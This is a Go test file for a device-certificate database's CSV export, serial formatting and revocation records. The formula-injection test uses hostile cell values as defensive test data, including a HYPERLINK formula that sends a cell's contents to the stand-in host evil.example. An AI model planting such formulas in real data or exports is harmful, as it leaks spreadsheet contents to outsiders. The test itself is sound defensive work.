package db

import (
	"bytes"
	"context"
	"crypto/x509"
	"encoding/csv"
	"encoding/hex"
	"fmt"
	"strings"
	"testing"
	"time"
)

// A device chooses its serial: an export opened in a spreadsheet must not run it.
func TestCSVNeutralisesFormulas(t *testing.T) {
	cert := "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n"
	recs := []ExportRecord{
		{Serial: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Backend: "+tpm", Status: "-1", Certificate: cert, Chain: cert,
			ProvisionedAt: time.Unix(0, 0), WorkOrder: "@SUM(A1)", CertSerial: "\t=1"},
		{Serial: "\r=2", Backend: "tpm", Status: "provisioned", Certificate: cert, Chain: cert, ProvisionedAt: time.Unix(0, 0), WorkOrder: "W-1", CertSerial: "1a"},
	}
	var b bytes.Buffer
	if err := WriteCSV(&b, recs); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(rows) != 3 {
		t.Fatalf("csv: %v %d rows", err, len(rows))
	}
	want := []string{`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'+tpm", "'-1", cert, cert, "1970-01-01T00:00:00Z", "'@SUM(A1)", "'\t=1"}
	for i, w := range want {
		if rows[1][i] != w {
			t.Errorf("cell %d (%s) = %q, want %q", i, CSVHeader[i], rows[1][i], w)
		}
	}
	if rows[2][0] != "'\r=2" && rows[2][0] != "'\n=2" { // encoding/csv reads \r\n inside quotes as \n
		t.Errorf("serial cell %q", rows[2][0])
	}
	if rows[2][1] != "tpm" || rows[2][6] != "W-1" {
		t.Errorf("plain cells changed: %q", rows[2])
	}
	for _, r := range rows[1:] {
		for i, c := range r {
			if i != 3 && i != 4 && c != "" && strings.ContainsAny(c[:1], "=+-@\t\r") {
				t.Errorf("cell %d starts with a formula character: %q", i, c)
			}
		}
	}
}

// TestDisplaySerial: the one printed form of a serial is upper-case hex of
// the serial's bytes, as openssl prints it, whatever spelling came in.
func TestDisplaySerial(t *testing.T) {
	for in, want := range map[string]string{
		"ca5b1b8": "0CA5B1B8", "0CA5B1B8": "0CA5B1B8", "0x00ff": "FF", "ab:cd:0e": "ABCD0E", "7": "07", "1a2b": "1A2B",
	} {
		if got := DisplaySerial(in); got != want {
			t.Errorf("DisplaySerial(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestExportRevoked: a device whose certificate was revoked stays in the
// export with status "revoked", when and why; Status filters; cert_serial is
// the printed form of the certificate's own serial.
func TestExportRevoked(t *testing.T) {
	ctx := context.Background()
	p := getPKI()
	s := openTest(t, "")
	s.CreateWorkOrder(ctx, WorkOrder{ID: "A", Product: "x", Quantity: 5})
	var certs []*Certificate
	for i := 0; i < 3; i++ {
		c, err := provision(ctx, s, p, fmt.Sprintf("D%d", i), "A")
		if err != nil {
			t.Fatal(err)
		}
		certs = append(certs, c)
	}
	leaf, err := x509.ParseCertificate(certs[1].DER)
	if err != nil {
		t.Fatal(err)
	}
	at := time.Date(2026, 4, 1, 12, 0, 0, 0, time.UTC)
	if err := s.RecordRevocation(ctx, certs[1].SerialHex, leaf.AuthorityKeyId, ReasonKeyCompromise, at); err != nil {
		t.Fatal(err)
	}
	all, err := s.Export(ctx, ExportFilter{})
	if err != nil || len(all) != 3 {
		t.Fatalf("export: %d records, %v; want 3 (the revoked device too)", len(all), err)
	}
	bySerial := map[string]ExportRecord{}
	for _, r := range all {
		bySerial[r.Serial] = r
	}
	rev := bySerial["D1"]
	if rev.Status != ExportRevoked || rev.RevokedAt == nil || !rev.RevokedAt.Equal(at) || rev.RevocationReason != "keyCompromise" {
		t.Fatalf("revoked device: status %q revoked_at %v reason %q", rev.Status, rev.RevokedAt, rev.RevocationReason)
	}
	if want := strings.ToUpper(hex.EncodeToString(leaf.SerialNumber.Bytes())); rev.CertSerial != want {
		t.Fatalf("cert_serial %q, want %q (openssl's form)", rev.CertSerial, want)
	}
	if live := bySerial["D0"]; live.Status != DeviceProvisioned || live.RevokedAt != nil || live.RevocationReason != "" {
		t.Fatalf("live device: %+v", live)
	}
	revoked, _ := s.Export(ctx, ExportFilter{Status: ExportRevoked})
	live, _ := s.Export(ctx, ExportFilter{Status: DeviceProvisioned})
	if len(revoked) != 1 || revoked[0].Serial != "D1" || len(live) != 2 {
		t.Fatalf("--status filters: %d revoked, %d provisioned", len(revoked), len(live))
	}
	var b bytes.Buffer
	if err := WriteCSV(&b, all); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(rows) != 4 {
		t.Fatalf("csv: %v, %d rows", err, len(rows))
	}
	for _, r := range rows[1:] {
		if r[0] == "D1" && (r[2] != "revoked" || r[8] != at.Format(time.RFC3339Nano) || r[9] != "keyCompromise") {
			t.Fatalf("csv row of the revoked device: %q", r)
		}
	}
}
